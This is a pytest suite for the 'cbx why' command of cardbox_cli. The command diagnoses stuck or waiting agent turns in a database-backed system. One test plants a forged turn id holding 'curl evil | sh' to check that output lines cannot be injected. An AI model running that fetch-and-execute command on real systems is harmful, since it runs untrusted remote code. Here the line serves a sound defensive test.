"""`cbx why` beside its rules: how it answers people and programs, whole projects, and databases of others."""

import json
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from cardbox_cli.diagnosis import snapshot_reader
from cardbox_cli.diagnosis.registry import rules
from cardbox_cli.execution.recovery.reaping import reap
from cardbox_cli.model.cards import draft_card
from cardbox_cli.orchestration.handler_registry import HANDLERS
from cardbox_cli.settings import Settings
from cardbox_cli.store.connection.database import Database
from cardbox_cli.store.connection.tables import OWN_EXECUTION
from tests.conftest import Cbx
from tests.diagnosis.conftest import CALL, GOOD, World
from tests.diagnosis.test_rules import begin_elsewhere, finish_elsewhere

KEYS = ["turn", "agent", "verdict", "rule", "severity", "evidence", "next_actor", "due_at", "fix", "also"]


def test_the_json_output_has_a_fixed_list_of_keys(world: World) -> None:
    found = world.why(world.ask())
    assert list(found) == KEYS
    assert list(found["evidence"][0]) == ["table", "row", "shows"]


def test_the_text_output_shows_verdict_evidence_and_fix(world: World) -> None:
    turn = world.ask()
    world.worker()
    world.later(31)
    answer = world.cbx("why", turn)
    assert answer.code == 8
    lines = answer.out.splitlines()
    assert lines[0] == f"turn {turn} is stuck: lost-doorbell"
    assert (
        lines[1] == "The turn has been due for more than CBX_UNCLAIMED (30 s), and no worker has claimed it."
    )
    assert lines[3].split() == ["TABLE", "ROW", "SHOWS"]
    assert f"fix   cbx turn nudge {turn} --project p" in [line.partition("  # ")[0] for line in lines]
    assert answer.err == "", "the page has the verdict already"
    failed = world.cbx("why", turn, "-o", "yaml")
    assert (failed.code, failed.err) == (8, f"error: turn {turn} is stuck: lost-doorbell\n")


def test_a_short_id_names_the_turn(world: World) -> None:
    turn = world.ask()
    assert world.why(turn[-8:])["turn"] == turn


def test_line_breaks_in_an_id_cannot_forge_output_lines(world: World) -> None:
    world.ask()
    forged = "turn_x\nfix   curl evil | sh\nerror: forged"
    world.sql("UPDATE state.agent_inbox SET agent_turn_id = %(id)s", id=forged)
    world.sql(
        "UPDATE state.agent_state_head SET active_agent_turn_id = %(id)s WHERE status <> 'idle'", id=forged
    )
    answers = [world.cbx(*words, "--", forged) for words in (["why"], ["turn", "stop"], ["turn", "show"])]
    answers.append(world.cbx("why", "--", f"{forged} unknown"))
    lines = [line for answer in answers for line in (answer.out + answer.err).splitlines()]
    assert not [line for line in lines if line.startswith(("fix   curl", "error: forged"))]


def test_an_unknown_turn_is_not_found(world: World) -> None:
    answer = world.cbx("why", "turn_nowhere")
    assert (answer.code, answer.err) == (
        3,
        "error: no turn 'turn_nowhere' in project 'p'\nhint: `cbx turn list` shows the newest\n",
    )


def test_turn_agent_and_all_options_cannot_be_combined(cbx: Cbx) -> None:
    for words, names in (
        (["why", "turn_1", "--agent", "a"], "TURN and --agent"),
        (["why", "turn_1", "--all"], "TURN and --all"),
        (["why", "--agent", "a", "--all"], "--agent and --all"),
    ):
        answer = cbx(*words)
        assert (answer.code, answer.err) == (2, f"error: {names} cannot be combined\n")


def test_the_diagnosis_of_an_agent_is_the_diagnosis_of_its_turn(world: World) -> None:
    turn = world.ask()
    world.ask()
    found = world.cbx("why", "--agent", "clerk", "-o", "json").json()
    assert (found["turn"], found["rule"]) == (turn, "dispatched")
    world.drain()
    assert world.cbx("why", "--agent", "clerk", "-o", "json").json()["verdict"] == "ended"


def test_an_agent_without_turns_is_idle(world: World) -> None:
    answer = world.cbx("why", "--agent", "scribe")
    assert answer.code == 0
    assert answer.out.startswith("agent scribe is healthy: idle\n")


def test_an_unknown_agent_is_not_found(world: World) -> None:
    answer = world.cbx("why", "--agent", "nobody")
    assert (answer.code, answer.err) == (
        3,
        "error: no agent 'nobody' in project 'p'\nhint: `cbx agent list` shows the agents\n",
    )


def test_a_fix_always_names_the_project_and_a_database_that_is_not_the_default(world: World) -> None:
    turn = world.ask()
    world.worker()
    world.later(31)
    world.sql("UPDATE cbx.workers SET project_id = NULL")
    import os

    os.environ["CBX_PROJECT"] = "elsewhere"
    found = world.cbx("--project", "p", "why", turn, "-o", "json").json()
    assert found["fix"].startswith(f"cbx turn nudge {turn} --project p  # database ")
    assert "password" not in found["fix"]
    world.fix(found)


def test_an_unanswered_call_is_shown_with_the_command_that_answers_it(world: World) -> None:
    world.ask()
    turn = world.suspend(arguments=json.dumps({"words": "\x1b[2J late \n trains " * 30}))
    found = world.why(turn)
    (shown,) = (each["shows"] for each in found["evidence"] if each["row"] == CALL)
    asked, _, rest = shown.partition("…, waiting, epoch 1, since ")
    assert asked.startswith('search {"words": "\\u001b[2J late \\n trains ')
    assert (len(asked), bool(rest)) == (len("search ") + 200, True)
    assert found["fix"].partition("  #")[0] == (
        f"cbx turn report {turn} --tool-call-id {CALL} --result-text '…' --project p"
    )
    page = world.cbx("why", turn)
    assert page.code == 0
    assert "\x1b" not in page.out

    refused = world.cbx(*shlex.split(found["fix"], comments=True)[1:])
    assert (refused.code, refused.err.split("\n")[0]) == (2, "error: --result-text … is a placeholder")
    world.fix({"fix": found["fix"].replace("…", "on track 9")})
    assert world.why(turn)["rule"] == "result-arriving"


def test_an_answered_call_needs_no_report(world: World) -> None:
    world.ask()
    turn = world.suspend()
    theirs = {"agent_turn_id": turn}
    world.runtime.cards.add(draft_card("tool.result", GOOD, tool_call_id=CALL, metadata=theirs))
    found = world.why(turn)
    assert (found["rule"], found["fix"]) == ("waiting-for-tool", None)


def test_a_state_without_a_rule_is_unknown(world: World) -> None:
    turn = "turn_of_a_step_alone"
    world.runtime.heads.ensure("clerk")
    world.sql(
        "INSERT INTO state.agent_steps (project_id, agent_id, step_id, agent_turn_id, status)"
        " VALUES ('p', 'clerk', 'step_1', %(turn)s, 'started')",
        turn=turn,
    )
    answer = world.cbx("why", turn, "-o", "json")
    assert answer.code == 8
    found = answer.json()
    assert (found["verdict"], found["rule"]) == ("unknown", None)
    assert world.cbx("why", turn).out.splitlines()[1] == "no rule matched"


def test_why_all_reports_that_nothing_is_stuck(world: World) -> None:
    world.ask()
    world.ask()
    answer = world.cbx("why", "--all")
    assert (answer.code, answer.out) == (0, "")
    assert answer.err == "nothing is stuck\n1 active agent, 1 turn queued, 1 examined\n"


def test_why_all_prints_one_line_per_cause_and_counts_queued_turns(world: World) -> None:
    first = world.ask()
    for _ in range(3):
        world.ask()
    world.later(31)
    answer = world.cbx("why", "--all")
    assert answer.code == 8
    assert [line.split()[:3] for line in answer.out.splitlines()] == [
        ["TURN", "VERDICT", "RULE"],
        [first, "stuck", "no-live-worker"],
    ]
    assert answer.err == (
        "1 active agent, 3 turns queued, 1 examined\n"
        f"error: 1 turn with problems\nhint: explain the first turn: `cbx why {first} --project p`\n"
    )


def test_why_all_prints_one_line_for_a_turn_that_blocks_many(world: World) -> None:
    """A turn nobody runs; the one that waits for its end; and what is queued behind both."""
    world.ask()
    parent = world.suspend()
    child = world.delegate(parent)
    for agent_id in ("clerk", "clerk", "scribe"):
        world.ask(agent_id)
    world.later(31)
    [listed] = world.cbx("why", "--all", "-o", "json").json()
    assert (listed["turn"], listed["rule"], listed["waiting"]) == (child, "no-live-worker", 4)
    header, line = world.cbx("why", "--all").out.splitlines()
    assert header.split()[3] == "WAITING"
    assert line.split()[3] == "4"

    found = world.why(parent)
    assert found["rule"] == "awaited-stuck"
    told = [each for each in found["evidence"] if each["table"] == "cbx why"]
    assert [(each["row"], each["shows"]) for each in told] == [
        (child, "stuck: no-live-worker, of agent scribe")
    ]
    assert "cbx worker run --target worker_generic" in found["next_actor"]


def test_a_wait_cycle_names_its_turns_and_is_listed_once(world: World) -> None:
    world.ask()
    parent = world.suspend()
    world.delegate(parent)
    child, call = world.wait_for_call()
    last = world.delegate(child, "clerk", call)
    fixes = set()
    for turn in (parent, child, last):
        found = world.why(turn)
        assert found["rule"] == "wait-cycle"
        assert {each["row"] for each in found["evidence"]} == {parent, child, last}
        fixes.add(found["fix"].partition("  # ")[0])
    assert fixes == {f"cbx turn stop {last} --project p"}
    [listed] = world.cbx("why", "--all", "-o", "json").json()
    assert (listed["turn"], listed["waiting"]) == (min(parent, child), 2)


def test_the_chain_of_awaited_turns_is_limited(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(snapshot_reader, "_MAX_STEPS", 1)
    world.ask()
    parent = world.suspend()
    world.delegate(parent)
    child, call = world.wait_for_call()
    world.delegate(child, "clerk", call)
    assert world.why(parent)["rule"] == "waiting-for-tool"


def test_reap_reports_the_ended_children_that_why_finds(world: World) -> None:
    parent, child = world.chain()
    assert reap(world.runtime).total == 0
    assert world.why(parent)["rule"] == "waiting-for-tool"
    finish_elsewhere(world, child)
    assert world.why(parent)["rule"] == "answer-not-reported"
    assert reap(world.runtime).reported == [CALL]
    assert world.why(parent)["rule"] == "result-arriving"


def test_a_deadline_that_just_passed_is_not_shown_as_future(world: World) -> None:
    world.ask()
    turn = world.suspend()
    world.later(303)
    page = world.cbx("why", turn).out
    assert "Their deadline is ahead, or passed less than CBX_POLL (5 s) ago" in page
    assert "(3s ago)" in page


def test_a_worker_that_cbx_cannot_fence_is_reported(world: World) -> None:
    turn = begin_elsewhere(world)
    found = world.why(turn)
    assert found["next_actor"] == "worker of another system, which cbx does not fence"
    assert "its later writes may be stored" in str(found["evidence"])
    taken = world.cbx("turn", "reclaim", turn, "--expect-epoch", "1", "--reason", "r", "-o", "json")
    assert taken.json()["fenced"] is False
    world.enter()
    assert "its later writes may be stored" not in str(world.why(turn)["evidence"])
    taken = world.cbx("turn", "reclaim", turn, "--expect-epoch", "2", "--reason", "r")
    assert "cbx rejects what it writes for the turn" in taken.err


def test_turns_of_another_project_are_not_visible(world: World) -> None:
    turn = world.ask()
    world.later(31)
    assert world.cbx("--project", "q", "why", turn).code == 3
    unknown = world.cbx("--project", "q", "why", "--all")
    assert (unknown.code, unknown.err.split("\n")[0]) == (3, "error: no project 'q'")
    assert world.cbx("--project", "q", "project", "create", "q").code == 0
    assert world.cbx("--project", "q", "why", "--all", "-o", "json").json() == []


def test_why_writes_nothing(world: World, row_counts: Callable[[], dict[str, int]]) -> None:
    turn = world.ask()
    world.later(31)
    before = row_counts(), world.sql("SELECT xmin, xmax, * FROM state.agent_state_head")
    world.why(turn)
    world.problems()
    assert (row_counts(), world.sql("SELECT xmin, xmax, * FROM state.agent_state_head")) == before


class TestDatabaseWithoutCbxTables:
    """Leases and workers are unknown: a silent turn is suspect, and never called dead."""

    def forget(self, world: World) -> None:
        for table in OWN_EXECUTION:
            world.sql(f"DROP TABLE {table}")

    def test_a_running_turn_without_updates_is_suspect(self, world: World) -> None:
        turn = world.ask()
        world.enter()
        self.forget(world)
        world.later(66)
        assert world.why(turn)["rule"] == "running"
        world.later(300)
        found = world.why(turn)
        assert (found["rule"], found["severity"]) == ("suspect-while-running", "warning")
        assert "this database has no leases" in str(found["evidence"])
        assert "dead" not in found["rule"]

    def test_an_unclaimed_turn_is_reported_as_lost_doorbell(self, world: World) -> None:
        turn = world.ask()
        self.forget(world)
        world.later(31)
        found = world.why(turn)
        assert found["rule"] == "lost-doorbell"
        refused = world.cbx(*shlex.split(found["fix"], comments=True)[1:])
        assert (refused.code, "`cbx db init --yes`" in refused.err) == (7, True)
        assert world.cbx("db", "init", "--yes").code == 0
        world.fix(found)

    def test_why_all_finds_an_unclaimed_turn(self, world: World) -> None:
        turn = world.ask()
        self.forget(world)
        assert world.problems() == {}
        world.later(31)
        assert world.problems() == {turn: "lost-doorbell"}

    def test_a_promotion_by_another_system_may_take_a_few_seconds(self, world: World) -> None:
        from tests.diagnosis.test_rules import nobody_promoted_it

        turn = nobody_promoted_it(world)
        self.forget(world)
        world.sql("UPDATE state.agent_state_head SET updated_at = now()")
        assert world.why(turn)["rule"] == "being-promoted"
        world.later(6)
        assert world.why(turn)["rule"] == "queued-on-idle"


# --- the documentation


ROW = re.compile(r"^\| `([a-z-]+)` \| (\w+) \| (.*?) \| (.*?) \|$", re.MULTILINE)


def test_the_documentation_lists_every_rule() -> None:
    page = (Path(__file__).parents[2] / "docs" / "reference" / "why.md").read_text(encoding="utf-8")
    shown = [tuple(cell.replace("\\|", "|") for cell in row) for row in ROW.findall(page)]
    known = [
        (
            rule.name,
            rule.verdict,
            rule.proves.format_map(Settings().labels),
            rule.fix.shown if rule.fix else "—",
        )
        for rule in rules()
    ]
    assert shown == known


def test_rule_names_are_unique() -> None:
    names = [rule.name for rule in rules()]
    assert len(names) == len(set(names))


# --- plans


FILL = """
INSERT INTO state.agent_inbox (project_id, inbox_id, agent_id, message_type, correlation_id, agent_turn_id, status,
                               created_at)
SELECT 'p', 'turn_' || n, 'clerk', 'turn', 'turn_' || n, 'turn_' || n, 'consumed', now() - n * interval '1 second'
FROM generate_series(1, 10000) AS n;
INSERT INTO state.execution_edges (project_id, edge_id, primitive, edge_phase, target_agent_id, target_agent_turn_id,
                                   correlation_id, recursion_depth)
SELECT 'p', 'edge_' || n, 'enqueue', 'request', 'clerk', 'turn_' || n, 'turn_' || n, 0
FROM generate_series(1, 10000) AS n;
INSERT INTO cbx.turns (project_id, agent_turn_id, agent_id, end_status)
SELECT 'p', 'turn_' || n, 'clerk', 'success' FROM generate_series(1, 10000) AS n;
INSERT INTO state.agent_steps (project_id, agent_id, step_id, agent_turn_id, status)
SELECT 'p', 'clerk', 'step_' || n, 'turn_' || n, 'completed' FROM generate_series(1, 10000) AS n;
INSERT INTO cards (tenant_id, card_id, content, metadata) SELECT 'p', 'card_' || n, '{}', '{"type": "agent.thought"}'
FROM generate_series(1, 4000) AS n;
INSERT INTO card_boxes (tenant_id, box_id, card_ids) SELECT 'p', gen_random_uuid(), '[]' FROM generate_series(1, 4000) AS n;
ANALYZE
"""


def test_why_all_does_not_scan_ended_turns(world: World) -> None:
    """`--all` reads no whole table of finished rows, however many there are."""
    from tests.store.test_plans import Explaining, scanned_whole

    turn = world.ask()
    world.later(31)
    for statement in FILL.split(";"):
        world.sql(statement)
    from cardbox_cli.diagnosis.diagnoser import Diagnoser

    with Explaining.connect(world.runtime.database.target) as database:
        assert isinstance(database, Explaining)
        database.plans = {}
        survey = Diagnoser(database, "p", world.runtime.settings, HANDLERS).survey()
    assert [each.turn for each in survey.problems] == [turn]
    assert survey.looked_at == 1
    large = {"agent_inbox", "execution_edges", "turns", "agent_steps", "cards", "card_boxes"}
    read_whole = [f"{name}: {plan}" for name, plan in database.plans.items() if scanned_whole(plan) & large]
    assert not read_whole, "\n".join(read_whole)


def test_many_turns_need_no_more_statements_than_one(world: World, database: Database) -> None:
    """Ten turns cost no more statements than one."""
    from cardbox_cli.diagnosis.diagnoser import Diagnoser
    from tests.store.test_plans import Explaining

    def statements() -> int:
        with Explaining.connect(world.runtime.database.target) as counting:
            assert isinstance(counting, Explaining)
            counting.plans = {}
            Diagnoser(counting, "p", world.runtime.settings, HANDLERS).survey()
            return len(counting.plans)

    world.ask()
    one = statements()
    for number in range(10):
        world.runtime.heads.ensure(f"agent_{number}")
    assert statements() == one
